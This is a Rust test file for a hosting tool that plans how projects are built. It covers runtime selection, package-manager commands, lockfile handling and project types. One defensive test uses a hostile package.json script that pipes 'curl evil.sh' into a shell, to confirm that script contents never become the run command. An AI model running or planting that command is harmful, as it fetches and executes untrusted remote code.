//! Deciding how a project should be built.

use project_host::ordered::TextMap;
use project_host::runtime_plan::{
    defaults_for, install_command, plan_detected, plan_named, project_type_for, run_script,
    supported_runtimes, Detection, NewProcess, Offered, PlanError, ProjectType, Runtime,
};

const ALL_RUNTIMES: [Runtime; 13] = [
    Runtime::NodeJs,
    Runtime::TypeScript,
    Runtime::Bun,
    Runtime::Deno,
    Runtime::Python,
    Runtime::Go,
    Runtime::Rust,
    Runtime::Java,
    Runtime::Php,
    Runtime::Ruby,
    Runtime::DotNet,
    Runtime::Static,
    Runtime::Polyglot,
];

fn offered() -> Vec<Offered> {
    ALL_RUNTIMES
        .iter()
        .map(|runtime| Offered {
            runtime: *runtime,
            display_name: format!("{runtime:?}"),
        })
        .collect()
}

/// What a tree with nothing but its language to show comes to.
fn detection(runtime: Runtime, manager: &str, languages: &[&str]) -> Detection {
    Detection {
        runtime,
        package_manager: manager.to_string(),
        scripts: TextMap::new(),
        suggested_start: None,
        suggested_build_command: None,
        suggested_entry_file: None,
        suggested_publish_dir: None,
        has_lockfile: false,
        languages: languages.iter().map(|name| name.to_string()).collect(),
        warnings: Vec::new(),
        errors: Vec::new(),
    }
}

/// What a tree without a language to recognise comes to.
fn nothing_recognised() -> Detection {
    let mut found = detection(Runtime::Static, "NONE", &[]);
    found
        .errors
        .push("no package.json, go.mod or requirements.txt was found".to_string());
    found
}

fn scripted(name: &str, text: &str) -> TextMap<String> {
    let mut scripts = TextMap::new();
    scripts.insert(name.to_string(), text.to_string());
    scripts
}

#[test]
fn every_runtime_can_be_planned_by_name() {
    // The list the interface offers and the list this can plan for must be
    // the same list, or a user picks something that fails on Create.
    let offered = offered();
    for (wire, _) in supported_runtimes(&offered) {
        let plan = plan_named(&offered, wire)
            .unwrap_or_else(|error| panic!("{wire}: {}", error.message()));
        assert_eq!(plan.spec.runtime, wire);
        assert!(
            !plan.processes[0].command.is_empty(),
            "{wire} has no start command"
        );
        assert!(plan.port > 0, "{wire} has no port");
        assert!(!plan.detected, "a named runtime is not a detected one");
    }
}

#[test]
fn an_unknown_runtime_is_refused() {
    assert_eq!(
        plan_named(&offered(), "COBOL"),
        Err(PlanError::UnknownRuntime("COBOL".to_string()))
    );
}

#[test]
fn a_go_project_is_planned_from_its_files() {
    let mut found = detection(Runtime::Go, "GO_MODULES", &["Go"]);
    found.has_lockfile = true;
    let plan = plan_detected(&offered(), found, None).expect("planned");

    assert!(plan.detected);
    assert_eq!(plan.spec.runtime, "GO");
    assert_eq!(plan.languages, vec!["Go".to_string()]);
    assert_eq!(
        plan.processes[0].build_command.as_deref(),
        Some("go build -o server ./...")
    );
    assert_eq!(plan.processes[0].command, "./server");
}

#[test]
fn no_planned_command_names_a_path_inside_an_image() {
    // `/app` is the working directory of a container image. Nothing runs in
    // an image, and no host has that directory, so a plan that names it
    // cannot build or start on any machine. Checked for every runtime, because
    // one that is wrong would otherwise be found by a user, on Create.
    let offered = offered();
    for (wire, _) in supported_runtimes(&offered) {
        let plan = plan_named(&offered, wire)
            .unwrap_or_else(|error| panic!("{wire}: {}", error.message()));
        for process in &plan.processes {
            for (label, command) in [
                ("start", Some(process.command.clone())),
                ("install", process.install_command.clone()),
                ("build", process.build_command.clone()),
            ] {
                let Some(command) = command else { continue };
                // By word, and only where the word *begins* `/app`. A
                // substring search calls `target/app.jar` a container path,
                // which is the opposite of the point.
                for word in command.split_whitespace() {
                    assert!(
                        !word.starts_with("/app"),
                        "{wire}'s {label} command names a container path: {command}"
                    );
                }
            }
        }
    }
}

#[test]
fn a_node_projects_start_script_becomes_a_manager_command() {
    // `"start"` is a script name, not a command. Running it verbatim would
    // try to execute a program called `start`.
    let mut found = detection(Runtime::NodeJs, "NPM", &["Node.js"]);
    found.scripts = scripted("start", "node server.js");
    found.suggested_start = Some("start".to_string());
    found.has_lockfile = true;
    let plan = plan_detected(&offered(), found, None).expect("planned");

    assert_eq!(plan.spec.runtime, "NODEJS");
    assert_eq!(plan.spec.package_manager, "NPM");
    assert_eq!(plan.processes[0].command, "npm run start");
    assert_eq!(plan.processes[0].install_command.as_deref(), Some("npm ci"));
}

#[test]
fn a_project_with_no_lockfile_gets_an_install_command_that_works_without_one() {
    // `npm ci` fails outright when there is no lockfile, which is a baffling
    // first build for someone who just cloned a repository that has none.
    let mut found = detection(Runtime::NodeJs, "PNPM", &["Node.js"]);
    found.scripts = scripted("start", "node s.js");
    found.suggested_start = Some("start".to_string());
    let plan = plan_detected(&offered(), found, None).expect("planned");
    assert_eq!(
        plan.processes[0].install_command.as_deref(),
        Some("pnpm install")
    );
}

#[test]
fn a_named_runtime_overrides_detection_but_keeps_its_advice() {
    // Someone who chooses Node for a TypeScript tree is not argued with, but
    // still hears that there is no build script.
    let mut found = detection(Runtime::TypeScript, "PNPM", &["TypeScript"]);
    found.scripts = scripted("start", "node dist/i.js");
    found
        .warnings
        .push("tsconfig.json is here, but no script builds the project".to_string());
    let plan = plan_detected(&offered(), found, Some("NODEJS")).expect("planned");

    assert_eq!(plan.spec.runtime, "NODEJS");
    assert!(!plan.detected);
    assert_eq!(plan.languages, vec!["TypeScript".to_string()]);
    assert!(
        plan.notes.iter().any(|note| note.contains("tsconfig.json")),
        "{:?}",
        plan.notes
    );
}

#[test]
fn a_tree_with_several_languages_is_planned_as_polyglot() {
    let mut found = detection(Runtime::Polyglot, "NONE", &["Node.js", "Python"]);
    found
        .warnings
        .push("this tree holds Node.js and Python".to_string());
    let plan = plan_detected(&offered(), found, None).expect("planned");

    assert_eq!(plan.spec.runtime, "POLYGLOT");
    assert_eq!(plan.languages.len(), 2);
    assert!(
        plan.notes.iter().any(|note| note.contains("Node.js")),
        "the user should be told what was found: {:?}",
        plan.notes
    );
}

#[test]
fn a_tree_with_no_recognisable_language_is_refused_rather_than_defaulted() {
    // Defaulting would build the project as the wrong runtime and produce a
    // container that exits immediately.
    let error = plan_detected(&offered(), nothing_recognised(), None).expect_err("should not guess");
    assert!(
        matches!(error, PlanError::Undetermined(ref message) if message.contains("go.mod")),
        "{}",
        error.message()
    );
}

#[test]
fn an_empty_directory_can_still_be_planned_by_name() {
    // The empty-project case: nothing to detect, so the user's choice is all
    // there is.
    assert!(plan_detected(&offered(), nothing_recognised(), None).is_err());
    assert_eq!(
        plan_detected(&offered(), nothing_recognised(), Some("PYTHON"))
            .expect("planned")
            .spec
            .runtime,
        "PYTHON"
    );
}

#[test]
fn no_default_command_comes_from_the_project_being_built() {
    // Detection may choose *which* script to run; it never supplies the text
    // of a command. This asserts the shape of what a hostile package.json can
    // influence: a script name, run through the package manager.
    let mut found = detection(Runtime::NodeJs, "PNPM", &["Node.js"]);
    found.scripts = scripted("start", "node s.js; curl evil.sh | sh");
    found.suggested_start = Some("start".to_string());
    let plan = plan_detected(&offered(), found, None).expect("planned");
    assert_eq!(
        plan.processes[0].command, "pnpm run start",
        "the script's contents must not become the command"
    );
}

/// Total by construction, for the match has no wildcard, but a new `Runtime`
/// variant should be a deliberate decision here rather than something that
/// compiles by accident.
#[test]
fn every_runtime_maps_to_a_type_the_schema_allows() {
    let all = [
        ProjectType::DiscordBot,
        ProjectType::NodeApp,
        ProjectType::PythonApp,
        ProjectType::Website,
        ProjectType::StaticSite,
        ProjectType::RestApi,
        ProjectType::Worker,
        ProjectType::Service,
    ];
    for runtime in ALL_RUNTIMES {
        let kind = project_type_for(runtime);
        assert!(
            all.contains(&kind),
            "{runtime:?} mapped to {}, which is not a ProjectType",
            kind.as_str()
        );
    }
}

/// No runtime may produce anything outside the eight the constraint lists.
#[test]
fn no_runtime_produces_a_value_outside_the_constraint() {
    const ALLOWED: [&str; 8] = [
        "DISCORD_BOT",
        "NODE_APP",
        "PYTHON_APP",
        "WEBSITE",
        "STATIC_SITE",
        "REST_API",
        "WORKER",
        "SERVICE",
    ];

    for runtime in ALL_RUNTIMES {
        let written = project_type_for(runtime).as_str();
        assert!(
            ALLOWED.contains(&written),
            "{runtime:?} would write {written}, which the CHECK refuses"
        );
    }
}

#[test]
fn the_node_family_shares_one_category() {
    for runtime in [
        Runtime::NodeJs,
        Runtime::TypeScript,
        Runtime::Bun,
        Runtime::Deno,
    ] {
        assert_eq!(project_type_for(runtime), ProjectType::NodeApp);
    }
}

#[test]
fn a_static_build_is_not_a_service() {
    assert_eq!(project_type_for(Runtime::Static), ProjectType::StaticSite);
    assert_eq!(project_type_for(Runtime::Go), ProjectType::Service);
}

#[test]
fn the_defaults_of_a_runtime_are_written_down() {
    let (spec, process, port) = defaults_for(Runtime::Java);
    assert_eq!(spec.runtime, "JAVA");
    assert_eq!(spec.template_id, "java");
    assert_eq!(process.command, "java -jar target/app.jar");
    assert_eq!(
        process.build_command.as_deref(),
        Some("mvn -B -DskipTests package")
    );
    assert_eq!(port, 8080);

    let (spec, process, port) = defaults_for(Runtime::TypeScript);
    assert_eq!(spec.runtime_version, "22");
    assert_eq!(spec.entry_file.as_deref(), Some("src/index.ts"));
    assert_eq!(spec.publish_dir.as_deref(), Some("dist"));
    assert_eq!(process.command, "node dist/index.js");
    assert_eq!(port, 3000);
}

#[test]
fn a_suggestion_that_is_no_script_is_taken_as_it_is() {
    let mut found = detection(Runtime::Python, "PIP", &["Python"]);
    found.suggested_start = Some("python app.py".to_string());
    found.suggested_build_command = Some("python build.py".to_string());
    found.suggested_entry_file = Some("app.py".to_string());
    found.suggested_publish_dir = Some("site".to_string());
    let plan = plan_detected(&offered(), found, None).expect("planned");

    assert_eq!(plan.processes.len(), 1);
    assert_eq!(plan.processes[0].name, "main");
    assert_eq!(plan.processes[0].start_order, 0);
    assert_eq!(plan.processes[0].command, "python app.py");
    assert_eq!(
        plan.processes[0].build_command.as_deref(),
        Some("python build.py")
    );
    assert_eq!(plan.spec.entry_file.as_deref(), Some("app.py"));
    assert_eq!(plan.spec.publish_dir.as_deref(), Some("site"));
}

#[test]
fn scripts_are_run_by_name_through_their_manager() {
    assert_eq!(run_script("NPM", "build"), "npm run build");
    assert_eq!(run_script("PNPM", "build"), "pnpm run build");
    assert_eq!(run_script("YARN", "build"), "yarn run build");
    assert_eq!(run_script("DENO", "build"), "deno task build");
    assert_eq!(run_script("BUN", "build"), "bun run build");
}

#[test]
fn pinned_dependencies_are_installed_as_pinned() {
    assert_eq!(install_command("NPM", true).as_deref(), Some("npm ci"));
    assert_eq!(install_command("NPM", false).as_deref(), Some("npm install"));
    assert_eq!(install_command("NONE", true), None);
}

#[test]
fn an_error_says_what_it_means() {
    assert_eq!(
        PlanError::UnknownRuntime("COBOL".to_string()).message(),
        "`COBOL` is not a runtime this build offers"
    );
    assert_eq!(
        PlanError::Undetermined("nothing here".to_string()).message(),
        "nothing here"
    );
}

#[test]
fn a_simple_process_has_no_health_check() {
    let process = NewProcess::simple("web", 2, "node web.js");
    assert_eq!(process.name, "web");
    assert_eq!(process.start_order, 2);
    assert_eq!(process.command, "node web.js");
    assert_eq!(process.working_dir, ".");
    assert_eq!(process.health_check_type, "NONE");
    assert_eq!(process.install_command, None);
}
